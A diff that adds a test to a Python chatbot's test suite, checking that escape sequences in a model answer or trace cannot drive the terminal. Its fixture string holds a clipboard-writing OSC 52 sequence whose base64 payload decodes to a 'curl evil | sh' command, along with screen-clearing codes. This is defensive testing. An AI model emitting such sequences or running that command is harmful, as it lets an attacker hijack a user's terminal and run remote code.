@@ -234,3 +234,25 @@ def test_chat_streams_the_answer_as_it_is_written(tmp_path: Path, fake_llm: Fake
     first, whole = at(answer[:8]), at(answer)
     assert first is not None and whole is not None and whole - first > 1.5  # written as it came
     assert "".join(ch for _, ch in seen).count(answer) == 1  # not printed again at the end
+
+
+def test_an_answer_or_a_trace_carrying_escape_sequences_cannot_drive_the_terminal():
+    # a model's answer can quote a log line an attacker wrote: OSC 52 writes the clipboard, ESC[2J clears the
+    # screen, CSI \x9b is ESC[ on many terminals; Rich would print them as they are
+    from datetime import UTC, datetime
+
+    from rich.console import Console
+
+    from bot.chat import console_view
+    from bot.observability.queries import TurnTrace
+    from bot.observability.render import turn_tree
+
+    hostile = "disk ok\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x9b31m done"
+    console = Console(force_terminal=True, width=200)
+    with console.capture() as shown:
+        console_view.print_text(console, console_view.answer(hostile))
+        turn = TurnTrace(1, "t", "cli", "u", hostile, hostile, "error", hostile, 1, False, datetime.now(UTC), None)
+        console.print(turn_tree(turn))
+    out = shown.get()
+    assert "disk ok" in out and "done" in out
+    assert "\x07" not in out and "\x9b" not in out and "\x1b[2J" not in out and "\x1b]" not in out
